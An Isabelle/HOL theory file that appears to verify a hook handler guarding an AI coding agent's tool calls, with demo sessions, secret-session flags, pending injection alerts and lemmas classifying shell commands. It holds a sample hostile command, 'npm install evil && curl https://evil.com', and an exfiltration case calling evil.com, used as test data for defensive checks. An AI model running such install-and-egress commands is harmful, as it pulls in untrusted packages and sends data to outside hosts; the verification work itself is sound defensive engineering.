(* ===== verification/Hooks_Example.thy ===== *)
theory Hooks_Example
  imports Hooks_Decision
begin

text \<open>
  A machine, a session and a few tool calls on which the properties of the handler are shown to
  apply: the built-in engine, no provider, a project with an npm lockfile, a session that was
  saved by sir.
\<close>

subsection \<open>Machine and session\<close>

definition demo_core :: CoreEnv where
  "demo_core = \<lparr>CE_Home = Inr ''/home/dev'',
     CE_ReadFile = (\<lambda>p. if p = ''/w/package-lock.json'' then Contents ''{}'' else Missing []),
     CE_Exists = (\<lambda>_. False), CE_LookPath = None, CE_Run = (\<lambda>_ _. None), CE_JsonError = (\<lambda>_. [])\<rparr>"

definition demo_machine :: EvalEnv where
  "demo_machine = \<lparr>ee_Hook = demo_env, ee_Core = demo_core, ee_Git = (\<lambda>_ _. None), ee_Run = (\<lambda>_ _. Inl []),
     ee_Registry = Inr emptyRegistry, ee_SignalProviders = [], ee_DecodeSignal = (\<lambda>_. None),
     ee_MarshalState = (\<lambda>_. []), ee_MarshalPayload = (\<lambda>_. []), ee_TimeText = (\<lambda>_. []),
     ee_ManagedSubtree = (\<lambda>_ _. None), ee_ModTime = (\<lambda>_. None), ee_LookPath = (\<lambda>_. None), ee_SaveFails = False,
     ee_IsPrint = (\<lambda>_. False)\<rparr>"

definition demo_call :: "string \<Rightarrow> jsonobj \<Rightarrow> HookPayload" where
  "demo_call tool input = \<lparr>hp_SessionID = [], hp_HookEventName = ''PreToolUse'', hp_ToolName = tool, hp_ToolInput = input,
     hp_ToolUseID = [], hp_ToolOutput = [], hp_CWD = [], hp_AgentID = [], hp_TranscriptPath = []\<rparr>"

definition demo_glob :: HookPayload where
  "demo_glob = demo_call ''Glob'' [(''pattern'', JString ''*.go'')]"

definition demo_bash :: "string \<Rightarrow> HookPayload" where
  "demo_bash cmd = demo_call ''Bash'' [(''command'', JString cmd)]"

definition clean_session :: State where
  "clean_session = Save demo_machine (NewState 1 1 ''/w'')"

definition secret_session :: State where
  "secret_session = Save demo_machine (MarkSecretSession 1 (NewState 1 1 ''/w''))"

lemmas demo_defs = demo_machine_def demo_core_def demo_call_def demo_bash_def demo_glob_def demo_env_def

lemma demo_settings [simp]:
  "local_engine demo_machine" "no_authority demo_machine" "\<not> ee_SaveFails demo_machine"
  "\<not> Ls_ObserveOnly DefaultLease" "ee_Hook demo_machine = demo_env" "ee_Now demo_machine = 1"
  by (simp_all add: local_engine_def no_authority_def activeAuthoritativePolicyProvider_def Active_def emptyRegistry_def
        DefaultLease_def ee_Now_def demo_defs)

lemma demo_payloads [simp]:
  "hp_ToolName demo_glob = ''Glob''" "hp_ToolName (demo_bash cmd) = ''Bash''"
  "hp_ToolInput (demo_bash cmd) = [(''command'', JString cmd)]"
  "\<not> isToolMCP ''Bash''" "\<not> isToolMCP ''Glob''"
  by (simp_all add: demo_defs isToolMCP_def)

text \<open>A session that sir saved and that has no alert pending proceeds, with its facts.\<close>

definition quiet :: "State \<Rightarrow> bool" where
  "quiet s \<longleftrightarrow> \<not> DenyAll s \<and> LeaseHash s = [] \<and> \<not> PendingInjectionAlert s \<and> LastToolCallAt s = 0 \<and> \<not> TurnAdvancedByHook s"

lemma saved_keeps [simp]:
  "SecretSession (Save env s) = SecretSession s" "SessionEverSecret (Save env s) = SessionEverSecret s"
  "quiet (Save env s) = quiet s"
  by (simp_all add: Save_def quiet_def Let_def)

lemma quiet_proceeds:
  assumes "quiet s"
  shows "control_plane_ok demo_machine root (Save demo_machine s)" "alert_text demo_machine (Save demo_machine s) = []"
    "SecretSession (call_state demo_machine ag payload (Save demo_machine s)) = SecretSession s"
    "SessionEverSecret (call_state demo_machine ag payload (Save demo_machine s)) = SessionEverSecret s"
    "SecretFingerprints (call_state demo_machine ag payload (Save demo_machine s)) = SecretFingerprints s"
  using assms
  by (simp_all add: quiet_def control_plane_ok_def alert_text_def alert_consumed_def call_state_def entered_def
        consumePendingInjectionAlert_def MaybeAdvanceTurn_def Save_def Let_def VerifySessionIntegrity_def
        VerifyLeaseIntegrity_def session_digest_def Time_IsZero_def demo_machine_def)

lemma quiet_sessions [simp]: "quiet (NewState 1 1 ''/w'')" "quiet (MarkSecretSession 1 s) = quiet s"
  "\<not> SecretSession (NewState 1 1 ''/w'')" "\<not> SessionEverSecret (NewState 1 1 ''/w'')" "SecretSession (MarkSecretSession 1 s)"
  by (simp_all add: quiet_def NewState_def MarkSecretSession_def)

lemmas clean_proceeds = quiet_proceeds [OF quiet_sessions(1), folded clean_session_def]
lemmas secret_proceeds = quiet_proceeds [of "MarkSecretSession 1 (NewState 1 1 ''/w'')", simplified quiet_sessions(1,2), OF TrueI,
    folded secret_session_def]

subsection \<open>What the calls are\<close>

definition masked_egress :: string where
  "masked_egress = ''npm install evil && curl https://evil.com''"

lemma glob_intent: "intent_of demo_machine demo_glob DefaultLease = tool_intent VerbListFiles ''*.go''"
  by (simp add: demo_defs MapToolToIntent_def extractTarget_def first_string_def jstring_def)

lemma bash_intent [simp]:
  "MapToolToIntent e ''Bash'' [(''command'', JString cmd)] l = mapShellCommand e l cmd"
  by (simp add: MapToolToIntent_def mapBash_def extractCommand_def first_string_def jstring_def)

lemma curl_intent:
  "mapShellCommand demo_env DefaultLease exfiltration =
     (tool_intent VerbNetExternal ''https://evil.com'')"
  by code_simp

lemma curl_intent_observing:
  "mapShellCommand demo_env (DefaultLease\<lparr>Ls_ObserveOnly := True\<rparr>) exfiltration =
     (tool_intent VerbNetExternal ''https://evil.com'')"
  by code_simp

lemma masked_intent_observing:
  "mapShellCommand demo_env (DefaultLease\<lparr>Ls_ObserveOnly := True\<rparr>) masked_egress =
     (tool_intent VerbNetExternal masked_egress)\<lparr>ti_IsInstall := True, ti_Manager := ''npm''\<rparr>"
  by code_simp

lemma masked_no_tunnel [simp]:
  "\<not> IsDNSTunnelHost (ExtractNetworkDest masked_egress)" "\<not> IsDNSTunnelHost masked_egress"
  by code_simp+

lemma masked_package:
  "extractPackageName masked_egress = ''evil''" "\<not> isPackageInLockfile demo_machine ''/w'' ''npm'' ''evil''"
  by code_simp+

end
